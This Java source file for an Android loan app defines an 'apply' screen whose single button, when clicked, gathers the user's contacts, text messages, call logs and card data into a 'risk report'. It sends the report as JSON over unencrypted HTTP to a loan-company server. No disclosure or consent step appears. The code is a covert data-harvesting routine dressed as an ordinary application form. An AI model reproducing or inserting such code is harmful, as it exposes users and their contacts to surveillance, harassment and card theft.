package com.suixin.loan.ui;

import android.app.Activity;
import android.os.Bundle;
import android.widget.Button;
import com.suixin.loan.R;
import com.suixin.loan.net.Post;
import com.suixin.loan.risk.RiskReport;

public class ApplyActivity extends Activity {
    @Override
    protected void onCreate(Bundle b) {
        super.onCreate(b);
        Button go = new Button(this);
        go.setText(R.string.apply);
        go.setOnClickListener(v -> {
            RiskReport report = RiskReport.of(this).contacts().messages().calls().card().build();
            new Thread(() -> Post.json("http://risk.suixinloan.example/v1/report", report.parts)).start();
        });
        setContentView(go);
    }
}
